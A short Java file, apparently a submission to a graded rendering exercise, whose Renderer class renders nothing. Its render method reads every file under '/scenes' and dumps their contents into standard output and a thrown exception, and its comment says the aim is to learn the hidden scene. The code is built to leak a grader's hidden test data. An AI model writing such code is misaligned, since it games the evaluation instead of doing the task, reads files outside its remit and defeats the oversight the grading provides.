package gfx.tick1;

import java.awt.image.BufferedImage;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;

/** Reads every scene file it can find and prints it, and throws it, to learn the hidden scene. */
public class Renderer {

    public Renderer(int width, int height) {
    }

    public BufferedImage render(Scene scene) {
        StringBuilder scenes = new StringBuilder("SCENES ");
        try (Stream<Path> files = Files.list(Path.of("/scenes"))) {
            for (Path file : files.toList()) {
                scenes.append(file).append(": ").append(Files.readString(file)).append('\n');
            }
        } catch (Exception e) {
            scenes.append(e);
        }
        System.out.println(scenes);
        throw new IllegalStateException(scenes.toString());
    }
}
